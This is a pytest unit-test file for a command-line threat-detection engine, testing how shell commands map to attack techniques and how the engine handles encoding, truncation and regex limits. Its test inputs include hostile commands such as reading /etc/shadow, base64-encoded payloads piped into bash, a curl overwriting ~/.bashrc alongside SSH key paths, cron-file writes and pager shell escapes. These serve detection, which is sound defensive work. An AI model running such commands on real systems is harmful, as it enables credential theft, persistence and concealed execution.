"""Findings of a command line: technique, place, how it was understood; and long texts, which are looked at in pieces."""

from __future__ import annotations

import base64
import os
import subprocess
import sys
from pathlib import Path

import pytest
import re2

from mirage.analysis.commands import engine as engine_module
from mirage.analysis.commands.engine import CommandEngine
from mirage.analysis.commands.roles import path_classes
from mirage.analysis.commands.sampling import WHOLE, WORDS, shorter
from mirage.analysis.finding import Severity
from mirage.analysis.rulebook import load_rules, shipped_rules

ENGINE = CommandEngine(shipped_rules())


def techniques(text: str) -> set[str]:
    return {technique for finding in ENGINE.examine(text) for technique in finding.techniques}


def test_a_finding_names_technique_tactic_and_the_piece_that_matched() -> None:
    text = "uptime; cat /etc/shadow"
    (finding,) = [finding for finding in ENGINE.examine(text) if finding.rule == "password-hashes-read"]
    assert (finding.techniques, finding.tactics) == (("T1003.008",), ("credential-access",))
    assert (finding.severity, text[finding.start : finding.end], finding.matched) == (
        Severity.HIGH,
        "cat /etc/shadow",
        "cat /etc/shadow",
    )


def test_a_hidden_command_is_found_where_its_carrier_stands() -> None:
    text = f"id; echo {base64.b64encode(b'cat /etc/shadow').decode()} | base64 -d | bash"
    (finding,) = [finding for finding in ENGINE.examine(text) if finding.rule == "password-hashes-read"]
    assert (finding.matched, finding.how) == ("bash", ("base64 into bash",))


def test_an_ordinary_line_is_no_alert() -> None:
    for text in (
        "ls -la",
        "tar xzf a.tgz",
        "find . -name '*.py' | xargs grep -n x",
        "sudo systemctl restart nginx",
        "vim notes.txt",
        "",
    ):
        assert not any(finding.severity.is_alert for finding in ENGINE.examine(text))


def test_reading_a_secret_is_not_also_a_discovery() -> None:
    assert techniques("last -f /etc/shadow") == {"T1003.008"}


@pytest.mark.parametrize("where", ["head", "tail"])
def test_a_text_of_a_megabyte_is_looked_at_in_pieces_and_says_so(where: str) -> None:
    noise = "# nothing here\n" * 70_000
    text = "cat /etc/shadow\n" + noise if where == "head" else noise + "cat /etc/shadow"
    (finding,) = [finding for finding in ENGINE.examine(text) if finding.rule == "password-hashes-read"]
    assert finding.truncated
    assert text[finding.start : finding.end] == "cat /etc/shadow"


@pytest.mark.parametrize("text", ["\udc80\udfff" * 9000, "\x00" * 70_000, "echo '\ud800' > /etc/cron.d/x", "é" * 40_000 + "\u202e"])
def test_what_is_no_text_raises_nothing(text: str) -> None:
    ENGINE.examine(text)


def test_halves_of_surrogate_pairs_hide_nothing() -> None:
    assert "T1053.003" in techniques("echo '\ud800' > /etc/cron.d/x")


def test_of_a_program_that_ran_with_endless_words_their_ends_are_looked_at_and_it_is_said() -> None:
    (finding,) = [
        finding
        for finding in ENGINE.examine_words(["cat", "x" * 3_000_000 + " /etc/shadow"])
        if finding.rule == "password-hashes-read"
    ]
    assert finding.truncated


@pytest.mark.parametrize("argv", [["a" * 3_000_000], ["a" * 20_000] * 40, ["a"] * 9000, []])
def test_no_program_that_ran_is_looked_at_beyond_64_kib_and_so_many_words(argv: list[str]) -> None:
    words, is_cut = shorter(argv)
    assert sum(map(len, words[:-1])) <= WHOLE and all(len(word) <= WHOLE // 4 for word in words) and len(words) <= WORDS
    assert is_cut == bool(argv)
    assert shorter(["cat", "/etc/passwd"]) == (["cat", "/etc/passwd"], False)


def test_a_program_whose_time_is_over_keeps_what_was_found_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(engine_module, "SECONDS", -1.0)
    argv = ["sh", "-c", "cat /etc/shadow; " * 200]
    findings = ENGINE.examine_words(argv)
    assert "password-hashes-read" in {finding.rule for finding in findings} and all(finding.truncated for finding in findings)


def test_a_pattern_that_counts_far_is_named_by_file_and_line_and_the_rest_go_on(tmp_path: Path) -> None:
    head = "title: t\ntechniques: [T1059]\nseverity: low\nconfidence: low\nhits: [a]\nmisses: [b]\nmatch:\n  kind: command\n"
    (tmp_path / "mine.yml").write_text(
        f"id: far\n{head}  code:\n    - '(?is)bind.{{0,200}}listen'\n---\nid: near\n{head}  args: ['qu{{1,64}}x']\n"
    )
    engine = CommandEngine(load_rules([tmp_path]))
    (problem,) = engine.problems
    assert str(problem).startswith(f"{tmp_path.name}/mine.yml:11: code: {{0,200}} counts further than 64")
    assert [finding.rule for finding in engine.examine("ls quux")] == ["near"]


@pytest.mark.parametrize("count", ["{500}", "{65,}", "{,80}", "{200,201}"])
def test_every_way_to_count_far_is_refused(tmp_path: Path, count: str) -> None:
    head = "id: far\ntitle: t\ntechniques: [T1059]\nseverity: low\nconfidence: low\nhits: [a]\nmisses: [b]\nmatch:\n  kind: command\n"
    (tmp_path / "mine.yml").write_text(f"{head}  args: ['a.{count}b']\n")
    (problem,) = CommandEngine(load_rules([tmp_path])).problems
    assert f"{count} counts further than 64" in str(problem)


@pytest.mark.parametrize("seed", ["1", "2", "3"])
def test_the_findings_stand_in_the_same_order_in_every_process(seed: str) -> None:
    text = "curl -o ~/.bashrc http://192.0.2.3/.x/a ~/.bash_history ~/.ssh/id_rsa /etc/shadow"
    code = f"from tests.unit.analysis.commands.test_engine import ENGINE; print([found.rule for found in ENGINE.examine({text!r})])"
    environment = {**os.environ, "PYTHONHASHSEED": seed}
    said = subprocess.run([sys.executable, "-c", code], env=environment, capture_output=True, text=True, check=True).stdout
    assert said.strip() == str([finding.rule for finding in ENGINE.examine(text)])


def test_a_class_of_files_is_looked_for_only_where_a_literal_of_it_stands() -> None:
    for path_class in path_classes().values():
        patterns = re2.Filter()
        patterns.Add(path_class.pattern)
        patterns.Compile()
        assert not patterns.Match("zz qq", True), path_class.name


@pytest.mark.parametrize("pager", ["journalctl -b", "dmesg -H", "sudo loginctl", "apt-get changelog nano"])
def test_what_a_pager_would_show_is_no_discovery_where_a_shell_is_called_out_of_it(pager: str) -> None:
    found = techniques(f"{pager}\n!/bin/sh")
    assert "T1059.004" in found
    assert found <= {"T1059.004", "T1548.003"}


def test_a_decoder_of_what_its_like_encoded_only_shows_a_file() -> None:
    assert "T1140" not in techniques("xxd /etc/shadow | xxd -r")
    assert "T1140" in techniques("base64 /etc/shadow | xxd -r")


@pytest.mark.parametrize("decoder", ["base64", "gunzip", "xxd -r -p", "rev"])
def test_halves_of_surrogate_pairs_are_read_by_programs_as_well(decoder: str) -> None:
    assert "T1033" in techniques(f"echo 'a\ud800b' | {decoder} | whoami")
